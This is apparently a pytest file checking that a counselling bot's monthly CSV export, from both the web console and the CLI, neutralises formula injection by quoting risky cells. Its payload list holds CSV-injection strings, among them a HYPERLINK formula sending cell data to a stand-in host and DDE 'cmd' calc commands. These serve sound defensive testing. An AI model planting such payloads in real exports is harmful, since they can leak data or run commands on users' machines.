"""Issue 13, finding 4: CSV formula injection.

A counsellor's advice and follow-up are free text and went into the month's CSV as
written, so ``=HYPERLINK(...)``, ``+cmd|...`` or ``@SUM(...)`` reached Excel as
formulas. Every cell that starts with = + - @, a tab or a carriage return is now
written after a ``'`` (OWASP's advice: Excel hides it and reads the rest as text),
in the console's download and in ``python -m bot report`` alike; a number the bot
wrote in a numeric column stays a number.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from bot.privacy import mask_pii
from bot.records.book import Record, RecordBook
from bot.records.demo import generate
from bot.records.export import COLUMNS, to_csv
from bot.storage.keys import KeyBuilder
from bot.web import runtime_of
from tests.console.conftest import login
from tests.records.conftest import MONTH
from tests.records.test_purge import _env

ROOT = Path(__file__).resolve().parents[2]
ADVICE = COLUMNS.index("記録簿：助言（マスク済）")
FOLLOW_UP = COLUMNS.index("記録簿：フォローアップ内容（マスク済）")
NUMERIC = [COLUMNS.index(name) for name in ("時", "待機時間（秒）", "初回応答（秒）")]
#: What a counsellor's note could hold (typed, pasted, or written by someone with a counsellor's login).
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"詳しくはこちら")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- 来週もう一度連絡する",  # text starting with a hyphen: neutralised too
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]


def _plant(client, keys) -> list[Record]:
    """Put the payloads into the closing records of the month's first handed-off consultations."""
    closed = [r for r in RecordBook(client, keys).month(MONTH) if r.closing][:len(PAYLOADS)]
    assert len(closed) == len(PAYLOADS)
    planted = []
    for n, record in enumerate(closed):
        follow = PAYLOADS[(n + 1) % len(PAYLOADS)]
        record = replace(record, closing={**record.closing, "advice": PAYLOADS[n],
                                          "follow_up": {"needed": True, "text": follow}})
        client.hset(keys.record_doc(record.id), mapping=record.to_fields())
        planted.append(record)
    return planted


def _assert_neutralised(rows: list[list[str]], planted: list[Record]) -> None:
    by_id = {row[0]: row for row in rows}
    for record in planted:
        row = by_id[record.id]
        assert row[ADVICE] == "'" + mask_pii(record.closing["advice"]), row[ADVICE]
        assert row[FOLLOW_UP] == "'" + mask_pii(record.closing["follow_up"]["text"]), row[FOLLOW_UP]
    for row in rows:
        for n, cell in enumerate(row):
            if n in NUMERIC and cell.lstrip("-").isdigit():
                continue
            assert not cell.startswith(TRIGGERS), (COLUMNS[n], cell)


def test_to_csv_neutralises_formula_cells_and_keeps_numbers(month_records):
    record = next(r for r in month_records if r.closing)
    hostile = replace(record, wait_seconds=-3.0, severity="=1+1",
                      closing={**record.closing, "advice": PAYLOADS[0],
                               "follow_up": {"needed": True, "text": PAYLOADS[1]}})
    (row,) = _rows(to_csv([hostile]))
    assert row[ADVICE] == "'" + mask_pii(PAYLOADS[0])
    assert row[FOLLOW_UP] == "'" + PAYLOADS[1]
    assert row[COLUMNS.index("重大度")] == "'=1+1", "every text cell, not only the free-text ones"
    assert row[COLUMNS.index("待機時間（秒）")] == "-3", "a number stays a number"


def test_neutralise_follows_owasp():
    from bot.records.export import neutralise

    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for harmless in ("", "削除依頼の方法を説明した。", "1-2 回", "'=already quoted", " =1"):
        assert neutralise(harmless) == harmless
    assert neutralise("-3", numeric=True) == "-3" and neutralise("-3") == "'-3"
    assert neutralise("-3+cmd|' /C calc'!A0", numeric=True) == "'-3+cmd|' /C calc'!A0"


def test_the_console_download_is_neutralised(app, add_account, directory):
    runtime = runtime_of(app)
    generate(runtime.client, runtime.keys, directory, month=MONTH, count=60, seed=3)
    planted = _plant(runtime.client, runtime.keys)
    add_account("boss", "supervisor")
    client = app.test_client()
    assert login(client, "boss").status_code == 302
    response = client.get(f"/console/report.csv?month={MONTH}")
    assert response.status_code == 200
    _assert_neutralised(_rows(response.data.decode("utf-8")), planted)


@pytest.mark.e2e  # starts `python -m bot report`
@pytest.mark.e2e  # starts `python -m bot report`
def test_the_cli_export_is_neutralised(redis_settings, redis_client, directory, tmp_path):
    keys = KeyBuilder(secret=b"cli-purge-secret-0123456789abcdef")  # the BOT_ID_SECRET of _env
    generate(redis_client, keys, directory, month=MONTH, count=60, seed=3)
    planted = _plant(redis_client, keys)
    done = subprocess.run([sys.executable, "-m", "bot", "report", "--month", MONTH, "--out", str(tmp_path)],
                          cwd=ROOT, env=_env(redis_settings), capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    _assert_neutralised(_rows((tmp_path / "records.csv").read_bytes().decode("utf-8")), planted)
